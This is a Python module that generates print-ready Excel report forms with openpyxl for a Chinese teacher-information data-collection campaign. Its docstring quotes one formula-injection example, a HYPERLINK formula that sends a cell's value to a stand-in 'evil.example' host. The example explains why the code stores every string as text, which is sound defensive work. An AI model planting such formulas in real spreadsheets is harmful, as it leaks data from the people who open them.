"""Excel reports with openpyxl: the seed's headings in order, bold headers, frozen header rows, print-ready.

Every cell uses a font with Chinese glyphs (宋体, which Excel and WPS map on every
Chinese Windows; LibreOffice substitutes an installed CJK font, see `reports.pdf`).

Every sheet prints as it is (`print_ready`): A4, landscape only when the columns are wider
than a portrait page, fitted to one page wide (as many pages down as needed), the title and
header rows repeated on every page, every cell wrapped and columns as wide as their content
(a CJK character counts twice). Office staff print these forms and sign them; a form that
needs rework in Excel before it prints is not done.

Email addresses are never broken: a wrap opportunity at `@` (a zero-width space) would be
copied along with the address and corrupt it, so an address column is as wide as its longest
address instead (the column cap does not apply to it).

Every text is stored as text, never as a formula: the values come from HR's roster and the
plan, and a name such as `=HYPERLINK("http://evil.example/?x="&A1)` written as a formula would
run in the office's Excel (formula injection). openpyxl takes any string starting with `=`
for a formula; `_text` keeps it a string cell with the same visible text.
"""

from __future__ import annotations

import io
import math
import re
import unicodedata
from collections.abc import Sequence
from pathlib import Path
from typing import Any

from openpyxl import Workbook
from openpyxl.cell.cell import Cell
from openpyxl.drawing.image import Image
from openpyxl.styles import Alignment, Border, Font, PatternFill, Side
from openpyxl.utils import column_index_from_string, get_column_letter
from openpyxl.worksheet.page import PageMargins
from openpyxl.worksheet.worksheet import Worksheet

FONT = "宋体"
BODY_SIZE = 11
THIN = Side(style="thin")
BOX = Border(left=THIN, right=THIN, top=THIN, bottom=THIN)
HEADER_FILL = PatternFill("solid", fgColor="F0F0F0")
WRAP = Alignment(wrap_text=True, vertical="center")

PORTRAIT_WIDTH = 92
"""Column width units (characters of the default font, about 2.1 mm each as LibreOffice prints
them) up to which a sheet prints portrait: the printable width of a portrait A4 page (210 mm less
15 mm margins) holds some 83, so a portrait sheet is shrunk by at most a tenth; wider sheets print
landscape."""
MIN_WIDTH, MAX_WIDTH = 6, 40
SLACK = 1.15
"""Printed text is wider than the column unit's count suggests (a Latin letter of the Song face is
wider than the unit's digit): a column is this much wider than its text's count, plus padding."""
LINE_HEIGHT = 15.0
"""Points per line of 11 pt text (with leading)."""
WRITING_ROW = 26.0
"""Points (9.2 mm): a row someone writes in by hand (附表5's corrections), at least 8 mm on paper
also once the sheet is shrunk to fit the page's width (by some 6 % for 附表5)."""
EMAIL = re.compile(r"[^@\s]+@[^@\s]+\.[^@\s]+")


def _text(cell: Cell, value: Any) -> None:
    """Put `value` in `cell`; a string always as a string cell (shown as typed, never evaluated)."""
    cell.value = value
    if isinstance(value, str):
        cell.data_type = "s"


def _append(sheet: Worksheet, values: Sequence[Any]) -> int:
    """A row at the bottom of the sheet, every string kept as text; its row number."""
    sheet.append(list(values))
    row = sheet.max_row
    for cell in sheet[row]:
        _text(cell, cell.value)
    return row


def _title(sheet: Worksheet, form: str, title: str, width: int) -> None:
    _text(sheet["A1"], form)
    sheet["A1"].font = Font(name=FONT, size=10)
    _text(sheet["A2"], title)
    sheet["A2"].font = Font(name=FONT, size=16, bold=True)
    sheet["A2"].alignment = Alignment(horizontal="center", vertical="center", wrap_text=True)
    sheet.merge_cells(start_row=2, start_column=1, end_row=2, end_column=width)


def _row(sheet: Worksheet, values: Sequence[Any], header: bool = False) -> int:
    row = _append(sheet, values)
    for cell in sheet[row]:
        cell.font = Font(name=FONT, size=BODY_SIZE, bold=header)
        cell.border = BOX
        cell.alignment = WRAP
        if header:
            cell.fill = HEADER_FILL
    return row


def _widths(sheet: Worksheet, widths: Sequence[int]) -> None:
    for n, width in enumerate(widths):
        sheet.column_dimensions[get_column_letter(n + 1)].width = width


def _sheet_name(text: str, taken: set[str]) -> str:
    """Excel's rules: at most 31 characters, none of []:*?/\\, unique in the workbook."""
    base = re.sub(r"[\[\]:*?/\\]", "_", text)[:31]
    name, n = base, 2
    while name in taken:
        suffix = f"({n})"
        name, n = base[: 31 - len(suffix)] + suffix, n + 1
    taken.add(name)
    return name


def text_width(value: Any) -> int:
    """Width of the widest line of `value` in column units: a CJK (wide) character counts two."""
    if value is None:
        return 0
    lines = str(value).split("\n")
    return max(sum(2 if unicodedata.east_asian_width(ch) in "WF" else 1 for ch in line) for line in lines)


def _scale(cell: Cell) -> float:
    """How much wider than 11 pt body text the cell's font sets (the 16 pt title: about 1.5)."""
    size = cell.font.sz if cell.font is not None and cell.font.sz else BODY_SIZE
    return float(size) / BODY_SIZE


def _lines(value: Any, width: float, scale: float = 1.0) -> int:
    """Lines a wrapped text takes in a column (or span) `width` units wide."""
    if value is None or width <= 0:
        return 1
    return sum(
        max(1, math.ceil(text_width(line) * scale * SLACK / max(width - 2, 1)))
        for line in str(value).split("\n")
    )


def _fit_columns(sheet: Worksheet, widest: float = MAX_WIDTH) -> None:
    """Every column as wide as its content (within MIN_WIDTH…`widest`; addresses never capped).

    Cells merged across columns do not widen a column: their rows grow instead (`_fit_rows`).
    """
    spanned = {
        (row, col)
        for merged in sheet.merged_cells.ranges
        if merged.max_col > merged.min_col
        for row in range(merged.min_row, merged.max_row + 1)
        for col in range(merged.min_col, merged.max_col + 1)
    }
    widths: dict[int, float] = {}
    for letter, dimension in sheet.column_dimensions.items():  # widths set by `_widths`: room to write in
        widths[column_index_from_string(letter)] = dimension.width
    for row in sheet.iter_rows():
        for cell in row:
            if cell.value is None or (cell.row, cell.column) in spanned:
                continue
            need = text_width(cell.value) * _scale(cell) * SLACK + 2
            if not (isinstance(cell.value, str) and EMAIL.search(cell.value)):
                need = min(need, widest)
            widths[cell.column] = max(widths.get(cell.column, MIN_WIDTH), need)
    for column in range(1, sheet.max_column + 1):
        sheet.column_dimensions[get_column_letter(column)].width = math.ceil(widths.get(column, MIN_WIDTH))


def _width_of(sheet: Worksheet, first: int, last: int) -> float:
    return sum(
        sheet.column_dimensions[get_column_letter(c)].width or MIN_WIDTH for c in range(first, last + 1)
    )


def _fit_rows(sheet: Worksheet) -> None:
    """Each row as tall as its wrapped text needs; Excel does not grow a row for a merged cell's text,
    and neither program for a row whose height was set, so every height is set here, never less
    than what a form asked for (a row to write in)."""
    span = {(m.min_row, m.min_col): m.max_col for m in sheet.merged_cells.ranges}
    for row in sheet.iter_rows():
        lines, tallest = 1, 1.0
        for cell in row:
            if cell.value is None:
                continue
            last = span.get((cell.row, cell.column), cell.column)
            lines = max(lines, _lines(cell.value, _width_of(sheet, cell.column, last), _scale(cell)))
            tallest = max(tallest, _scale(cell))
        number = row[0].row
        need = lines * LINE_HEIGHT * tallest + 3
        asked = sheet.row_dimensions[number].height or 0
        sheet.row_dimensions[number].height = max(asked, need)


def print_ready(sheet: Worksheet, title_rows: int, widest: float = MAX_WIDTH) -> None:
    """A4, one page wide, rows 1…`title_rows` repeated on every page, columns and rows fitted.

    Call it once the sheet's rows are all written (it measures them). `widest`: the widest a column
    grows for its content; longer text wraps.
    """
    for row in sheet.iter_rows():
        for cell in row:
            if cell.font is None or cell.font.name != FONT:
                cell.font = Font(name=FONT, size=BODY_SIZE)
            if cell.value is not None and not cell.alignment.wrap_text:
                cell.alignment = Alignment(
                    wrap_text=True, horizontal=cell.alignment.horizontal, vertical="center"
                )
    _fit_columns(sheet, widest)
    _fit_rows(sheet)
    wide = _width_of(sheet, 1, sheet.max_column) > PORTRAIT_WIDTH
    sheet.page_setup.paperSize = sheet.PAPERSIZE_A4
    sheet.page_setup.orientation = "landscape" if wide else "portrait"
    sheet.page_setup.fitToWidth = 1
    sheet.page_setup.fitToHeight = 0
    sheet.sheet_properties.pageSetUpPr.fitToPage = True
    sheet.print_options.horizontalCentered = True
    sheet.page_margins = PageMargins(left=0.6, right=0.6, top=0.75, bottom=0.75, header=0.3, footer=0.3)
    if title_rows:
        sheet.print_title_rows = f"1:{title_rows}"


def _stage_rows(sheet: Worksheet, heading: str, stage: dict[str, Any], names_label: str, day: str) -> None:
    _row(sheet, [heading, "总数", "完成数", "未完成数", "上报日期", "完成日期"], header=True)
    _row(sheet, ["", stage["total"], stage["done"], stage["missing"], day, stage["completed_on"]])
    row = _row(sheet, [names_label, stage["missing_names"] or "无", "", "", "", ""])
    sheet.merge_cells(start_row=row, start_column=2, end_row=row, end_column=6)


def dept_audit(context: dict[str, Any], out: Path) -> None:
    """One 附表6 sheet per department, and before them a summary sheet (one line per department,
    header frozen) when there are several: a one-department file opens on its department."""
    workbook = Workbook()
    workbook.remove(workbook.active)
    taken = {"汇总"}
    audits = context["audits"]
    if len(audits) > 1:
        summary = workbook.create_sheet("汇总")
        _row(
            summary,
            ["部门名称", "审核人", "联系电话", "本部门教职工数", "完成数", "未完成数"]
            + ["审核完成数", "审核未完成数", "上报日期"],
            header=True,
        )
        summary.freeze_panes = "A2"
        for a in audits:
            entry, review = a["entry"], a["review"]
            _row(
                summary,
                [a["unit_name"], a["auditor"], a["phone"], entry["total"], entry["done"], entry["missing"]]
                + [review["done"], review["missing"], a["report_date"]],
            )
        print_ready(summary, 1)
    for a in audits:
        entry, review = a["entry"], a["review"]
        sheet = workbook.create_sheet(_sheet_name(a["unit_name"], taken))
        _title(sheet, "附表6", "数据审核报表", 6)
        _row(sheet, ["部门名称", a["unit_name"], "审核人", a["auditor"], "联系电话", a["phone"]])
        _stage_rows(sheet, "本部门教职工信息录入情况", entry, "未完成教职工姓名", a["report_date"])
        _stage_rows(sheet, "本部门教职工信息审核情况", review, "未审核教职工姓名", a["report_date"])
        sheet.freeze_panes = "A4"
        print_ready(sheet, 3, widest=20)  # the long headings wrap: a department's page stays portrait
    workbook.save(out)


def monthly(context: dict[str, Any], chart_png: bytes | None, out: Path) -> None:
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "附表4"
    _title(sheet, "附表4", "全国教师管理信息系统部署与启用月报表（高校填报）", 5)
    _row(sheet, ["学校名称", context["institution"], "年月", context["month"], ""])
    _row(sheet, ["填表人", context["filler"], "电话", context["phone"], f"填表日期：{context['filled_on']}"])
    header = _row(sheet, ["信息采集进度", "教师数", "已完成", "未完成", "全部完成日期"], header=True)
    for label, stage in (
        ("教师信息录入完成情况", context["entry"]),
        ("教师信息审核完成情况", context["review"]),
    ):
        _row(sheet, [label, stage["total"], stage["done"], stage["missing"], stage["completed_on"]])
    sheet.freeze_panes = f"A{header + 1}"
    print_ready(sheet, header)
    if chart_png is not None:
        image = Image(io.BytesIO(chart_png))
        columns_px = sum(
            7 * (sheet.column_dimensions[get_column_letter(c)].width or 8) + 5 for c in range(1, 6)
        )
        width = min(720, int(columns_px))  # no wider than the table: it prints within the page
        image.width, image.height = width, int(width * 400 / 720)
        sheet.add_image(image, f"A{sheet.max_row + 2}")
    workbook.save(out)


PROVINCE_COLUMNS = ["序号", "学校名称", "教师数", "录入完成", "录入完成率", "审核完成", "审核完成率"] + [
    "全部审核完成日期",
    "数据来源",
    "数据日期",
    "备注",
]


def province_monthly(context: dict[str, Any], chart_png: bytes | None, out: Path) -> None:
    """附表4 全省汇总: one line per institution, then 合计; a 未报送 line has no figures (not zeros)."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "附表4（全省汇总）"
    width = len(PROVINCE_COLUMNS)
    _title(sheet, "附表4", "全国教师管理信息系统部署与启用月报表（全省汇总）", width)
    _row(
        sheet,
        ["填报单位", context["province"], "年月", context["month"], "填表人", context["filler"], "电话"]
        + [context["phone"], "填表日期", context["filled_on"], ""],
    )
    header = _row(sheet, PROVINCE_COLUMNS, header=True)
    keys = ("total", "entered", "entered_pct", "reviewed", "reviewed_pct", "done_on")
    rows = [
        _row(sheet, [line["number"], line["name"], *(line[k] for k in keys), line["source"], line["as_of"]]
             + [line["note"]])
        for line in context["lines"]
    ]  # fmt: skip
    total = context["total"]
    unreported = f"未报送：{context['unreported']}" if context["unreported"] else ""
    rows.append(_row(sheet, ["", total["label"], *(total[k] for k in keys), "", "", unreported]))
    for cell in sheet[rows[-1]]:
        cell.font = Font(name=FONT, size=BODY_SIZE, bold=True)
    for row in rows:  # counts and rates line up on the right, as figures do
        for cell in sheet[row][2:7]:
            cell.alignment = Alignment(wrap_text=True, vertical="center", horizontal="right")
    sheet.freeze_panes = f"C{header + 1}"
    print_ready(sheet, header, widest=24)
    workbook.save(out)


def teacher_sheet(context: dict[str, Any], out: Path) -> None:
    """One 附表5 sheet per teacher, named by staff ID and name; the correction rows tall enough to
    write in by hand."""
    workbook = Workbook()
    workbook.remove(workbook.active)
    taken: set[str] = set()
    for t in context["sheets"]:
        sheet = workbook.create_sheet(_sheet_name(f"{t['staff_id']} {t['name']}", taken))
        _title(sheet, "附表5", "教师信息审核表", 5)
        _row(sheet, ["姓名", t["name"], "性别", t["gender"], ""])
        _row(sheet, ["出生年月", t["birth_month"], "岗位", t["post"], ""])
        _row(sheet, ["所属部门", t["department"], "联系电话", t["phone"], ""])
        for row in range(3, 6):
            sheet.merge_cells(start_row=row, start_column=4, end_row=row, end_column=5)
        header = _row(sheet, ["信息核对", "数据采集信息", "信息是否正确", "", ""], header=True)
        sheet.merge_cells(start_row=header, start_column=3, end_row=header, end_column=5)
        for label, key in (("学历信息", "education"), ("学位信息", "degree"), ("职称信息", "title")):
            row = _row(sheet, [label, t[key], "□正确　□错误", "", ""])
            sheet.merge_cells(start_row=row, start_column=3, end_row=row, end_column=5)
        row = _row(sheet, ["我保证此次数据采集所提交的所有信息真实有效。", "", "", "签字：", ""])
        sheet.merge_cells(start_row=row, start_column=1, end_row=row, end_column=3)
        sheet.row_dimensions[row].height = WRITING_ROW
        _row(sheet, ["序号", "更改项目", "原始信息", "变更后信息", "变更原因"], header=True)
        for n in context["correction_rows"]:
            row = _row(sheet, [n, "", "", "", ""])
            sheet.row_dimensions[row].height = WRITING_ROW
        row = _row(sheet, ["如果有需要修改的信息项请填写，信息变更请用黑色签字笔填写。", "", "", "", ""])
        sheet.merge_cells(start_row=row, start_column=1, end_row=row, end_column=5)
        row = _row(sheet, ["备注", f"工号 {t['staff_id']}", "", "", ""])
        sheet.merge_cells(start_row=row, start_column=2, end_row=row, end_column=5)
        sheet.freeze_panes = f"A{header}"
        _widths(sheet, [14, 26, 16, 16, 16])
        print_ready(sheet, 2)
    workbook.save(out)


def working_group(context: dict[str, Any], out: Path) -> None:
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "附表3"
    _title(sheet, "附表3", "全国教师管理信息系统联合工作组名单", 7)
    row = _append(sheet, [f"设区市(高校)（公章）：{context['institution']}"])
    sheet.merge_cells(start_row=row, start_column=1, end_row=row, end_column=7)
    header = _row(sheet, ["工作组成员", "姓名", "处室名称", "职务", "办公电话", "手机", "邮箱"], header=True)
    sheet.freeze_panes = f"A{header + 1}"
    for r in context["rows"]:
        _row(sheet, [r["role"], r["name"], r["office"], r["duty"], r["office_phone"], "", r["email"]])
    for c in (context["contact"], context["technical_contact"]):
        if c:
            row = _append(
                sheet,
                [
                    f"设区市(高校){c['role']}：{c['name']}　单位：{c['office']}　"
                    f"办公电话：{c['office_phone']}　电子邮件：{c['email']}"
                ],
            )
            sheet.merge_cells(start_row=row, start_column=1, end_row=row, end_column=7)
    print_ready(sheet, header)
    workbook.save(out)
